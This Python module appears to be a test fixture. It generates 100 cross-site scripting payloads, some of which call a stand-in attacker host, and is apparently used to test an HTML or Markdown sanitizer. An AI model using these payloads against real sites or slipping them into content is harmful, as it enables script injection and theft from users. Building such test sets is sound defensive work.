"""A hundred attempts to run code through a review, put together from vectors, wrappings and disguises."""

from itertools import product

_CALLS = ("alert(1)", "fetch(`//evil.example`)")
_HTML = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<a href="javascript:{}">x</a>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<details open ontoggle={}>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    '<object data="data:text/html,<script>{}</script>"></object>',
    "<style>@import '//evil.example/{}'</style>",
    "<form action=javascript:{}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<base href='//evil.example/{}'>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "<video><source onerror={}></video>",
    "<textarea></textarea><script>{}</script>",
    "</textarea></form><script>{}</script>",
)
_LINKS = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](&#106;avascript:{})",
    "[x](javascript&colon;{})",
    "[x](data:text/html,{})",
    "[x](vbscript:{})",
    "[x](//evil.example/{})",
    "[x](\\\\evil.example/{})",
    "[x](<javascript:{}>)",
    "<javascript:{}>",
    "![x](https://evil.example/{})",
    "![x](javascript:{})",
    "[x]: javascript:{}\n\n[x]",
    '[x](https://example.org "\'><img src=x onerror={}>")',
    "[x](https://example.org/\" onmouseover={} ')",
    "[<img src=x onerror={}>](https://example.org)",
    "`<script>{}</script>`",
    "```html\n<script>{}</script>\n```",
    '```"><script>{}</script>\nx\n```',
    "> <script>{}</script>",
    "* <img src=x onerror={}>",
    "# <script>{}</script>",
    '<https://example.org/"onmouseover={}>',
    "&lt;script&gt;{}&lt;/script&gt;",
    "{{{{ {} }}}} {{% {} %}}",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '"><svg/onload={}//',
)
PAYLOADS = [
    form.format(*[call] * form.replace("{{", "").count("{}")) for form, call in product((*_HTML, *_LINKS), _CALLS)
]
